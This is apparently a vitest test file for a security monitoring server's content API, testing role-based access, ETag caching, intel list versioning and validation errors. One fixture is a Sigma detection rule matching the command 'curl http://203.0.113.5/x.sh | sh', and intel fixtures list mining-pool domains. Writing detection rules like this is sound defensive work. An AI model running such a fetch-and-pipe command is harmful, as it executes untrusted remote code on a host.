import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openStore } from '../../store/open.js';
import type { Store } from '../../store/store.js';
import type { Role } from '../../store/types.js';
import { type BuiltServer, buildServer } from '../app.js';
import { hashSecret, newId, newSecret } from '../auth/secrets.js';

const dir = mkdtempSync(join(tmpdir(), 'mw-content-routes-'));
let store: Store;
let built: BuiltServer;
type Who = 'viewer' | 'analyst' | 'admin' | 'agent';
const cred = {} as Record<Who | 'revokedAgent' | 'revokedToken', string>;

async function userToken(role: Role, revoked = false): Promise<string> {
  const userId = newId('u');
  await store.auth.createUser({
    id: userId,
    name: `${role}-${userId}`,
    role,
    passwordHash: 'x',
    createdAt: new Date(),
  });
  const token = newSecret('mwt');
  const id = newId('t');
  await store.auth.createApiToken({
    id,
    userId,
    name: role,
    role,
    tokenHash: hashSecret(token),
    createdAt: new Date(),
    expiresAt: null,
  });
  if (revoked) await store.auth.revokeApiToken(id, new Date());
  return token;
}

async function agentCred(revoked = false): Promise<string> {
  const c = newSecret('mwa');
  const id = newId('a');
  await store.auth.createAgent({
    id,
    hostId: id,
    name: id,
    credentialHash: hashSecret(c),
    createdAt: new Date(),
  });
  if (revoked) await store.auth.revokeAgent(id, new Date());
  return c;
}

function call(method: 'GET' | 'PUT' | 'DELETE', url: string, auth?: string, body?: unknown, etag?: string) {
  const headers: Record<string, string> = {};
  if (auth) headers.authorization = `Bearer ${auth}`;
  if (etag) headers['if-none-match'] = etag;
  return built.app.inject({
    method,
    url,
    headers,
    ...(body === undefined ? {} : { payload: body as object }),
  });
}

const POLICY = `version: 1
rules:
  - id: ban-fleet
    match: { rules: [fleet.ban-list] }
    actions: [ban]
`;
const RULES = `title: Curl piped to a shell
id: 5b3c6c1e-7f55-4a55-9a55-2b1c3d4e5f60
status: test
logsource: { product: linux, category: process_creation }
detection:
  sel: { CommandLine|contains: 'curl http://203.0.113.5/x.sh | sh' }
  condition: sel
level: high
`;

beforeAll(async () => {
  store = await openStore(`sqlite:${join(dir, 'db.sqlite')}`);
  built = await buildServer({ store });
  cred.admin = await userToken('admin');
  cred.analyst = await userToken('analyst');
  cred.viewer = await userToken('viewer');
  cred.revokedToken = await userToken('admin', true);
  cred.agent = await agentCred();
  cred.revokedAgent = await agentCred(true);
});

afterAll(async () => {
  await built.app.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

const ROUTES: { method: 'GET' | 'PUT' | 'DELETE'; url: string; who: Who; body?: unknown; ok: number }[] = [
  { method: 'GET', url: '/api/agent/policy', who: 'agent', ok: 200 },
  { method: 'GET', url: '/api/agent/rules', who: 'agent', ok: 200 },
  { method: 'GET', url: '/api/agent/intel', who: 'agent', ok: 200 },
  { method: 'GET', url: '/api/content/policy', who: 'analyst', ok: 404 },
  { method: 'PUT', url: '/api/content/policy', who: 'admin', body: { yaml: POLICY }, ok: 200 },
  { method: 'PUT', url: '/api/content/rules', who: 'admin', body: { yaml: RULES }, ok: 200 },
  {
    method: 'PUT',
    url: '/api/content/intel',
    who: 'admin',
    body: { list: 'fleet', text: 'pool.example-mine.net\n' },
    ok: 200,
  },
  { method: 'DELETE', url: '/api/content/intel', who: 'admin', ok: 204 },
];
const weaker: Record<Who, Who[]> = {
  viewer: ['agent'],
  analyst: ['viewer', 'agent'],
  admin: ['viewer', 'analyst', 'agent'],
  agent: ['viewer', 'analyst', 'admin'],
};

describe('content routes', () => {
  it.each(ROUTES)(
    '$method $url: 401 without or with revoked credentials, 403 for the wrong role',
    async (r) => {
      for (const auth of [undefined, 'mwt_short', cred.revokedAgent, cred.revokedToken])
        expect((await call(r.method, r.url, auth, r.body)).statusCode).toBe(401);
      for (const w of weaker[r.who])
        expect((await call(r.method, r.url, cred[w], r.body)).statusCode, w).toBe(403);
      const res = await call(r.method, r.url, cred[r.who], r.body);
      expect(res.statusCode, res.body).toBe(r.ok);
    },
  );

  it('serves each kind with an ETag, 304 while unchanged, a new ETag after a change', async () => {
    const none = await call('GET', '/api/agent/policy', cred.agent);
    const etag0 = none.headers.etag as string;
    await call('DELETE', '/api/content/policy', cred.admin);
    const empty = await call('GET', '/api/agent/policy', cred.agent);
    expect(empty.json()).toEqual({ kind: 'policy', version: null, updatedAt: null, body: null, meta: {} });
    expect(
      (await call('GET', '/api/agent/policy', cred.agent, undefined, empty.headers.etag as string))
        .statusCode,
    ).toBe(304);
    const put = await call('PUT', '/api/content/policy', cred.admin, { yaml: POLICY, version: 'p-7' });
    expect(put.json()).toMatchObject({ kind: 'policy', version: 'p-7', meta: { rules: 1 } });
    const got = await call('GET', '/api/agent/policy', cred.agent, undefined, empty.headers.etag as string);
    expect(got.statusCode).toBe(200);
    expect(got.json()).toMatchObject({ version: 'p-7', body: POLICY });
    const etag = got.headers.etag as string;
    expect(etag).not.toBe(etag0);
    const again = await call('GET', '/api/agent/policy', cred.agent, undefined, etag);
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    const view = await call('GET', '/api/content/policy', cred.analyst);
    expect(view.json()).toMatchObject({
      version: 'p-7',
      body: POLICY,
      updatedBy: expect.stringMatching(/^admin-/),
    });
  });

  it('gives intel the list version and date, from the admin or the list header', async () => {
    const r = await call('PUT', '/api/content/intel', cred.admin, {
      list: 'fleet',
      text: 'pool.example-mine.net\n198.51.100.0/24\n',
      version: '2026.11.26',
      date: '2026-11-26',
    });
    expect(r.statusCode, r.body).toBe(200);
    expect(r.json()).toMatchObject({
      version: '2026.11.26',
      meta: { list: 'fleet', date: '2026-11-26', entries: 2 },
    });
    const hashed = await call('PUT', '/api/content/intel', cred.admin, {
      list: 'fleet',
      text: 'a.example-pool.org\n',
    });
    expect(hashed.json().version).toMatch(/^sha256:/);
    expect(hashed.json().meta.date).toMatch(/^\d{4}-\d{2}-\d{2}$/);
  });

  it('refuses invalid documents with 400 naming line and field, and keeps what was set', async () => {
    const before = (await call('GET', '/api/agent/rules', cred.agent)).json();
    const cases: [string, unknown, RegExp][] = [
      [
        '/api/content/policy',
        { yaml: 'version: 1\nrules:\n  - id: x\n    actions: [explode]\n' },
        /:4.*rules\.0\.actions\.0/,
      ],
      ['/api/content/policy', { yaml: 'version: 1\n', bogus: 1 }, /bogus|Unrecognized/i],
      [
        '/api/content/rules',
        { yaml: 'title: x\ndetection:\n  sel: { a: 1 }\n' },
        /MW_SIGMA|condition|logsource/i,
      ],
      ['/api/content/rules', { yaml: 'title: [' }, /MW_/],
      ['/api/content/intel', { list: 'fleet', text: '# nothing\n' }, /no domain, IP or CIDR/],
      ['/api/content/intel', { list: 'Bad Name', text: 'a.example.org\n' }, /list/],
    ];
    for (const [url, body, msg] of cases) {
      const r = await call('PUT', url, cred.admin, body);
      expect(r.statusCode, url).toBe(400);
      expect(r.json().message).toMatch(msg);
    }
    const big = await call('PUT', '/api/content/policy', cred.admin, { yaml: 'x'.repeat(600 * 1024) });
    expect([400, 413]).toContain(big.statusCode);
    expect((await call('GET', '/api/agent/rules', cred.agent)).json()).toEqual(before);
  });

  it('is in the OpenAPI document', async () => {
    const doc = (await built.app.inject({ method: 'GET', url: '/openapi.json' })).json() as {
      paths: Record<string, unknown>;
    };
    for (const p of [
      '/api/agent/policy',
      '/api/agent/rules',
      '/api/agent/intel',
      '/api/content/{kind}',
      '/api/content/policy',
      '/api/content/rules',
      '/api/content/intel',
    ])
      expect(Object.keys(doc.paths)).toContain(p);
  });
});
